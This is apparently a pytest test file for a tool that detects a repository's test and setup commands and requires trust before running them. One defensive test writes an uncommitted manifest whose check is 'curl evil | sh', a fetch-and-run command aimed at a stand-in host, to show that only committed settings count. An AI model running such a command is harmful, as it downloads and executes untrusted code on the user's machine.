"""What a repository's own files say about checking and preparing it."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from lessor.git.repository import find_repository
from lessor.project import Project, project_of
from lessor.project.trust import trust
from lessor.settings import Settings

PYPROJECT = "[tool.pytest.ini_options]\n"
PACKAGE = '{"scripts": {"test": "vitest"}}'


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(state_dir=tmp_path / "state", store_url=":memory:", store_origin="a test")


@pytest.fixture
def commit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Make a repository with these files; its directory and its commit."""
    for name in [name for name in os.environ if name.startswith("GIT_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
    top = tmp_path / "project"

    def make(files: dict[str, str]) -> tuple[Path, str]:
        for path, text in files.items():
            (top / path).parent.mkdir(parents=True, exist_ok=True)
            (top / path).write_text(text)
        _git(top, "init", "-q", "-b", "main")
        _git(top, "add", "-A")
        _git(top, "commit", "-q", "--allow-empty", "-m", "x")
        return top, _git(top, "rev-parse", "HEAD")

    return make


@pytest.mark.parametrize(
    ("files", "check", "setup"),
    [
        ({}, None, None),
        ({"README": "x"}, None, None),
        ({"Makefile": "build:\n\ntest: build\n\ttrue\n"}, ("make test", "Makefile"), None),
        ({"Makefile": "check:\n\ttrue\n"}, ("make check", "Makefile"), None),
        ({"Makefile": "test := x\nlatest:\n"}, None, None),
        ({"Makefile": "test:\n", "pyproject.toml": PYPROJECT}, ("make test", "Makefile"), None),
        ({"pyproject.toml": PYPROJECT}, ("pytest -q", "pyproject.toml"), None),
        ({"pyproject.toml": "[project]\n"}, None, None),
        ({"tox.ini": "[pytest]\n"}, ("pytest -q", "tox.ini"), None),
        (
            {"pyproject.toml": PYPROJECT, "uv.lock": ""},
            ("uv run --frozen pytest -q", "pyproject.toml"),
            ("uv sync --frozen", "uv.lock"),
        ),
        (
            {"pyproject.toml": PYPROJECT, "poetry.lock": ""},
            ("poetry run pytest -q", "pyproject.toml"),
            ("poetry install --no-interaction", "poetry.lock"),
        ),
        (
            {"requirements.txt": "pytest==8\n"},
            (".venv/bin/python -m pytest -q", "requirements.txt"),
            (
                "python3 -m venv .venv && .venv/bin/pip install -q -r requirements.txt",
                "requirements.txt",
            ),
        ),
        (
            {"package.json": PACKAGE, "package-lock.json": "{}"},
            ("npm test", "package.json"),
            ("npm ci", "package-lock.json"),
        ),
        (
            {"package.json": PACKAGE, "pnpm-lock.yaml": ""},
            ("pnpm test", "package.json"),
            ("pnpm install --frozen-lockfile", "pnpm-lock.yaml"),
        ),
        (
            {"package.json": PACKAGE, "yarn.lock": ""},
            ("yarn test", "package.json"),
            ("yarn install --frozen-lockfile", "yarn.lock"),
        ),
        (
            {"package.json": PACKAGE, "yarn.lock": "", ".yarnrc.yml": ""},
            ("yarn test", "package.json"),
            ("yarn install --immutable", "yarn.lock"),
        ),
        (
            {"package.json": PACKAGE, "bun.lock": ""},
            ("bun run test", "package.json"),
            ("bun install --frozen-lockfile", "bun.lock"),
        ),
        (
            {
                "package.json": '{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}'
            },
            None,
            None,
        ),
        ({"package.json": "{"}, None, None),
        ({"package.json": "[" * 50_000}, None, None),
        ({"package.json": '{"scripts": []}'}, None, None),
        (
            {"Cargo.toml": "", "Cargo.lock": ""},
            ("cargo test", "Cargo.toml"),
            ("cargo fetch --locked", "Cargo.lock"),
        ),
        ({"go.mod": "", "go.sum": ""}, ("go test ./...", "go.mod"), ("go mod download", "go.sum")),
        (
            {"pyproject.toml": PYPROJECT, "uv.lock": "", "package-lock.json": ""},
            ("uv run --frozen pytest -q", "pyproject.toml"),
            ("uv sync --frozen && npm ci", "uv.lock, package-lock.json"),
        ),
        ({"Makefile/test:": "a directory"}, None, None),
    ],
    ids=lambda value: "+".join(value) if isinstance(value, dict) else "",
)
def test_check_and_setup_are_found_with_their_origin(
    commit, settings: Settings, files: dict[str, str], check, setup
) -> None:
    project = _project(commit(files), settings)
    assert _found(project, "check") == check
    assert _found(project, "setup") == setup


def test_the_manifest_comes_before_what_is_found(commit, settings: Settings) -> None:
    project = _project(
        commit({"Makefile": "test:\n", "lessor.toml": 'check = "true"\nn = 4\nquiet = "1m"\n'}),
        settings,
    )
    assert _found(project, "check") == ("true", "lessor.toml")
    assert (project.workers, project.quiet_ms, project.total_ms) == (4, 60_000, 7_200_000)
    assert (project.attempts, project.rounds, project.queue) == (3, 3, "default")


def test_only_what_is_committed_holds(commit, settings: Settings) -> None:
    top, first = commit({"lessor.toml": 'check = "true"\n'})
    (top / "lessor.toml").write_text('check = "curl evil | sh"\n')
    assert _project((top, first), settings).check == "true"
    _git(top, "commit", "-qam", "a branch that changes its judge")
    assert _project((top, first), settings).check == "true"


def test_a_link_is_no_manifest(commit, settings: Settings, tmp_path: Path) -> None:
    (tmp_path / "secret.toml").write_text('check = "true"\n')
    top, _ = commit({"README": "x"})
    (top / "lessor.toml").symlink_to(tmp_path / "secret.toml")
    _git(top, "add", "-A")
    _git(top, "commit", "-qm", "link")
    assert _project((top, "HEAD"), settings).check is None


def test_worktreeinclude_says_what_comes_along(commit, settings: Settings) -> None:
    plain = _project(commit({"README": "x"}), settings)
    assert (plain.bring, plain.origins["bring"]) == (
        (".env*", ".claude/settings.local.json"),
        "default",
    )
    own = _project(commit({".worktreeinclude": ".env\nsecrets/\n"}), settings)
    assert (own.bring, own.origins["bring"]) == ((".env", "secrets/"), ".worktreeinclude")


def test_the_first_installed_agent_is_chosen(
    commit, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = commit({"README": "x"})
    git_only = os.environ["PATH"]
    for name in ("gemini", "codex"):
        (tmp_path / "bin").mkdir(exist_ok=True)
        (tmp_path / "bin" / name).write_text("#!/bin/sh\n")
        (tmp_path / "bin" / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:{git_only}")
    project = _project(made, settings)
    assert (project.agent, project.origins["agent"]) == ("codex", "PATH")
    assert _project(commit({"lessor.toml": 'agent = "gemini"\n'}), settings).agent == "gemini"


def test_trust_is_given_to_exactly_these_commands(commit, settings: Settings) -> None:
    made = commit({"lessor.toml": 'check = "true"\n[agents]\nmine = ["x", "{prompt}"]\n'})
    project = _project(made, settings)
    assert project.commands == [
        ("check", "true", "lessor.toml"),
        ("agent mine", "x {prompt}", "lessor.toml"),
    ]
    assert not project.trusted
    trust(settings, project.digest, note="check: true\n")
    assert _project(made, settings).trusted
    other = _project(commit({"lessor.toml": 'check = "true "\n[agents]\nmine = ["y"]\n'}), settings)
    assert not other.trusted


def test_pushing_results_is_agreed_to_once(commit, settings: Settings) -> None:
    plain = _project(commit({"lessor.toml": 'check = "true"\n'}), settings)
    trust(settings, plain.digest, note="check: true\n")
    pushing = _project(commit({"lessor.toml": 'check = "true"\npush = true\n'}), settings)
    assert pushing.push
    assert not pushing.trusted
    assert ("push", "each result to its remote, as you", "lessor.toml") in pushing.commands
    same = _project(commit({"lessor.toml": 'check = "true"\npush = false\n'}), settings)
    assert (same.push, same.trusted) == (False, True)


def test_nothing_to_run_needs_no_trust(commit, settings: Settings) -> None:
    assert _project(commit({"README": "x"}), settings).trusted


def _found(project: Project, name: str) -> tuple[str, str] | None:
    command = getattr(project, name)
    return None if command is None else (command, project.origins[name])


def _project(made: tuple[Path, str], settings: Settings) -> Project:
    top, commit = made
    return project_of(find_repository(top), commit=commit, settings=settings)


def _git(cwd: Path, *args: str) -> str:
    cwd.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(
        ["git", "-c", "user.name=A", "-c", "user.email=a@example.org", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.strip()
